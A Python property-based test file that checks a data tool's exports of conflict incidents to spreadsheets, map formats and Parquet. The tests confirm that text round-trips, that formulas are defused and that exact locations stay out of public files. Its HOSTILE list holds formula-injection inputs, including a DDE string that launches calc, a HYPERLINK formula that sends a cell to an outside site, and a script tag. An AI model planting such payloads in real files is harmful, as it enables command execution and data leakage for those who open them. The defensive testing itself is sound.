"""Whatever the words are, exports are read back as they were, spreadsheets run nothing, and nothing private is published."""

from __future__ import annotations

import csv
import io
import json
import re
import tempfile
from pathlib import Path
from typing import Any

import duckdb
import geopandas
import openpyxl
import pytest
from exporting import CLAIMS, INCIDENTS, REPORTS, SHELLED, A, Case, Loose, Material, cases
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from claimbook.export.csv import is_formula
from claimbook.export.formats import FORMATS, load_format, write_export
from claimbook.export.incident_table import flatten_incident
from claimbook.export.native import read_jsonl, read_parquet
from claimbook.export.profile import Coarsening, Public
from claimbook.model import Actor, Incident, Place, Told

HOSTILE = (
    "=HYPERLINK(\"http://example.org/?\"&A1,\"here\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r\n=1",
    "＝1+1", "'=1", "line\nbreak", "row\r\nbreak", 'with "quotes", and; semicolons', "مدينة حلب‏", "\u202eevil\u202c", "שלום",
    "🚁💥👨‍👩‍👧‍👦", "n" * 10_000, "<script>alert(1)</script>", "&amp; ]]> <![CDATA[", "_x0041_", "\x00\x01\x0b", "NULL", "nan",
    "1e5", "00123", "2020-01-01", "a\u0000b", " leading", "trailing ", "#tag", "é́", "\ufeffmark", "\\N", "%s %d {0}",
)  # fmt: skip
words = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=60), st.text(st.characters(codec="utf-8"), max_size=30))
names = words.filter(lambda w: w.strip())
slow = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@st.composite
def hostile(draw: st.DrawFn) -> Case:
    """An incident with its names, places and titles made of hostile words, somewhere on the globe."""
    place = Place(
        name=draw(names),
        country=draw(st.sampled_from(["SY", "AU", "US", None])),
        admin1=draw(st.one_of(st.none(), names)),
        admin2=draw(st.one_of(st.none(), names)),
        lat=draw(st.floats(-89.9, 89.9)),
        lon=draw(st.floats(-180, 180)),
        radius_km=draw(st.floats(0, 300)),
        geo_precision=draw(st.integers(1, 3)),
        where_prec=draw(st.integers(1, 7)),
    )
    base = INCIDENTS[0].model_copy(
        update={
            "place": Told[Place](value=place, claims=(), rule=draw(words)),
            "places": (Told[Place](value=place, claims=(), rule=""),),
            "initiators": (Told[Actor](value=Actor(name=draw(names)), claims=(), rule=""),),
            "targets": (Told[Actor](value=Actor(name=draw(names)), claims=(), rule=""),),
        }
    )
    report = next(iter(cases()[0].reports.values()))
    title = report.title.model_copy(update={"value": draw(words)}) if report.title else None
    outlet = report.outlet.model_copy(update={"value": draw(names)}) if report.outlet else None
    report = report.model_copy(update={"title": title, "outlet": outlet, "name": draw(names)})
    return Case(base, {report.id: report}, cases()[0].claims)


def written(name: str, given: list[Case], folder: str, *, public: Public | None = None) -> Path:
    """The cases in a format."""
    to = Path(folder) / f"out{load_format(name).suffix}"
    return write_export(Material(given), name, to, public=public).path


@slow
@given(hostile())
def test_csv_defuses_text_and_keeps_numbers(case: Case) -> None:
    """Every text cell reads back as it was, with an apostrophe before what a spreadsheet would run; negative
    longitudes stay numbers."""
    with tempfile.TemporaryDirectory() as folder:
        path = written("csv", [case], folder)
        with path.open(encoding="utf-8", newline="") as file:
            (row,) = csv.DictReader(file)
    for column, value in flatten_incident(case).items():
        if isinstance(value, str):
            assert row[column] == (f"'{value}" if is_formula(value) else value)
            assert not is_formula(row[column])
        elif isinstance(value, float):
            assert float(row[column]) == value
    assert float(row["lon"]) == case.incident.place.value.lon


@slow
@given(hostile(), st.sampled_from(["acled", "ged", "timemap", "atlos", "hapi"]))
def test_no_table_of_others_runs_anything(case: Case, name: str) -> None:
    """In the forms of others too, no cell is a formula unless it is a number, and coordinates stay numbers."""
    with tempfile.TemporaryDirectory() as folder:
        rows = list(csv.DictReader(io.StringIO(written(name, [case], folder).read_text(encoding="utf-8"), newline="")))
    for row in rows:
        assert None not in row
        for column, cell in row.items():
            if column in ("latitude", "longitude"):
                assert abs(float(cell)) <= 180
            elif is_formula(cell):
                float(cell)


@slow
@given(hostile())
def test_workbooks_hold_text_as_text(case: Case) -> None:
    """A workbook has no formula, and every text reads back but for characters that XML cannot hold."""
    with tempfile.TemporaryDirectory() as folder:
        sheet = openpyxl.load_workbook(written("xlsx", [case], folder))["incidents"]
        header, row = sheet.iter_rows()
        assert all(cell.data_type != "f" for cell in row)
        read = {h.value: c.value for h, c in zip(header, row, strict=True)}
    for column, value in flatten_incident(case).items():
        if isinstance(value, str):
            assert read[column] == as_xml(value), column
        elif isinstance(value, float):
            assert read[column] == pytest.approx(value)


@slow
@given(hostile(), st.sampled_from(["geojson", "gpkg", "geoparquet"]))
def test_map_files_hold_all_text_and_valid_areas(case: Case, name: str) -> None:
    """Map formats read back every text; the area holds its centre, wherever on the globe."""
    with tempfile.TemporaryDirectory() as folder:
        path = written(name, [case], folder)
        frame = geopandas.read_parquet(path) if name == "geoparquet" else geopandas.read_file(path)
        # GDAL takes texts of GeoJSON that look like days for days, so they are read as JSON.
        told = json.loads(path.read_text())["features"][0]["properties"] if name == "geojson" else frame.iloc[0]
    row = frame.iloc[0]
    for column, value in flatten_incident(case).items():
        if isinstance(value, str) and not (name == "gpkg" and "\x00" in value):
            assert told[column] == value, column
    west, south, east, north = row.geometry.bounds
    assert west >= -180.00001
    assert east <= 180.00001
    assert -90.00001 <= south <= case.incident.place.value.lat + 0.001
    assert north >= case.incident.place.value.lat - 0.001


@slow
@given(hostile())
def test_kml_holds_what_xml_can(case: Case) -> None:
    """KML is sound XML whatever the words, and reads back every text but for characters that XML cannot hold."""
    space = {"k": "http://www.opengis.net/kml/2.2"}
    with tempfile.TemporaryDirectory() as folder:
        root = etree.parse(str(written("kml", [case], folder))).getroot()
    data = {d.get("name"): d.findtext("k:value", namespaces=space) for d in root.findall(".//k:Data", space)}
    for column, value in flatten_incident(case).items():
        if isinstance(value, str):
            assert data[column] == cleaned(value), column


@slow
@given(hostile(), st.sampled_from(["jsonl", "parquet"]))
def test_native_formats_give_back_the_same(case: Case, name: str) -> None:
    """Whatever the words, the same incidents, claims and reports come back."""
    loose = Loose(SHELLED.model_copy(update={"id": "f" * 16}), A)
    with tempfile.TemporaryDirectory() as folder:
        to = Path(folder) / "out"
        write_export(Material([case], [loose]), name, to)
        whole = read_jsonl(to) if name == "jsonl" else read_parquet(to)
    assert whole.incidents == [case.incident]
    assert whole.claims == [*case.claims, loose.claim]
    assert set(whole.reports) == {*case.reports.values(), A}


@slow
@given(hostile())
def test_duckdb_reads_hostile_tables(case: Case) -> None:
    """DuckDB reads every text of the Parquet table as it was."""
    with tempfile.TemporaryDirectory() as folder:
        found = duckdb.sql(f"select * from '{written('parquet', [case], folder)}/incidents.parquet'")
        columns = [d[0] for d in found.description]
        (row,) = (dict(zip(columns, r, strict=True)) for r in found.fetchall())
    for column, value in flatten_incident(case).items():
        assert row[column] == value, column


MARK = "Zqxjk"  # a word that no field, sentence or lexicon holds


@slow
@given(
    st.floats(-85, 85),
    st.floats(-179, 179),
    st.floats(0.1, 6),
    st.sampled_from(Coarsening),
    st.sampled_from(sorted(set(FORMATS) - {"label-studio", "ftm"})),
)
def test_no_exact_point_or_name_is_published(lat: float, lon: float, radius: float, how: Coarsening, name: str) -> None:
    """Wherever a place is, its coordinates and its reports' words are in no public file."""
    lat, lon = round(lat, 6) + 0.000123, round(lon, 6) + 0.000123
    given = [private(case, lat, lon, radius) for case in cases()]
    with tempfile.TemporaryDirectory() as folder:
        path = written(name, given, folder, public=Public(coarsening=how))
        text = said(name, path)
    assert MARK not in text
    for exact in (lat, lon):
        # Four decimals: of a number between -1 and 0 three alone are met by chance on the rim of a coarse area.
        assert f"{exact:.4f}" not in text or f"{exact:.2f}00" == f"{exact:.4f}"


def private(case: Case, lat: float, lon: float, radius: float) -> Case:
    """The case somewhere else, with a marked word wherever a report's words may stand."""
    place = Place(
        name=MARK, entry="geonames-7", country="SY", admin1="Idlib", lat=lat, lon=lon, radius_km=min(radius, 0.7),
        geo_precision=1, where_prec=1, reason=MARK, kind=MARK,
    )  # fmt: skip

    def marked(noun: Any) -> Any:
        return type(noun).model_validate(_mark(noun.model_dump(), place.model_dump()))

    return Case(
        marked(case.incident),
        {i: marked(r) for i, r in case.reports.items()},
        tuple(marked(c) for c in case.claims),
    )


_MARKED = ("name", "wording", "quote", "sentence", "reason", "group", "address", "title", "text", "backer", "moved",
           "part_of_day", "method", "why")  # fmt: skip


def _mark(value: Any, place: dict[str, Any]) -> Any:
    if isinstance(value, dict):
        if "where_prec" in value:
            return place
        out = {}
        for key, inner in value.items():
            if key in _MARKED and isinstance(inner, str) and inner and key != "method":
                inner = MARK if key != "text" else MARK * (len(inner) // len(MARK) + 1)
            out[key] = _mark(inner, place)
        if "value" in out and isinstance(out["value"], str) and out.get("wording") and not _is_word(out["value"]):
            out["value"] = MARK
        if "speakers" in out:
            out["speakers"] = tuple(MARK if isinstance(s, str) else s for s in out["speakers"])
        return out
    if isinstance(value, (list, tuple)):
        return tuple(_mark(v, place) for v in value)
    return value


def _is_word(value: str) -> bool:
    """A word of a closed list, such as a kind, stays."""
    return value.islower() and " " not in value


def said(name: str, path: Path) -> str:
    """All that a file tells, unpacked."""
    if name == "xlsx":
        book = openpyxl.load_workbook(path)
        return "\n".join(str(v) for s in book for row in s.iter_rows(values_only=True) for v in row if v is not None)
    if name == "parquet":
        return "\n".join(str(duckdb.sql(f"select * from '{p}'").fetchall()) for p in sorted(path.iterdir()))
    if name == "geoparquet":
        return str(duckdb.sql(f"select * exclude geometry from '{path}'").fetchall())
    return path.read_bytes().decode("latin-1")


def as_xml(text: str) -> str:
    """What XML can hold of a text; "_x0041_" is written so that Excel does not read it as a letter."""
    return cleaned(re.sub("_x[0-9A-Fa-f]{4}_", lambda m: f"_x005F{m.group()}", text))


def cleaned(text: str) -> str:
    """The text with U+FFFD for what XML cannot hold."""
    return "".join(c if c in "\t\n\r" or (c >= " " and c not in "\ufffe\uffff") else "\ufffd" for c in text)


def test_the_hostile_words_reach_the_files() -> None:
    """The words are not cleaned away before they are written: the 10,000 characters and the emoji are there."""
    case = cases()[0]
    long = Told[Actor](value=Actor(name="n" * 10_000 + "🚁"), claims=(), rule="")
    grown = Case(case.incident.model_copy(update={"initiators": (long,)}), case.reports, case.claims)
    with tempfile.TemporaryDirectory() as folder:
        for name in ("csv", "geojson", "jsonl"):
            assert "n" * 10_000 + "🚁" in written(name, [grown], folder).read_text(encoding="utf-8")
    assert Incident.model_validate_json(grown.incident.model_dump_json()) == grown.incident
    assert {r.id for r in REPORTS.values()} >= {c.report for c in CLAIMS}
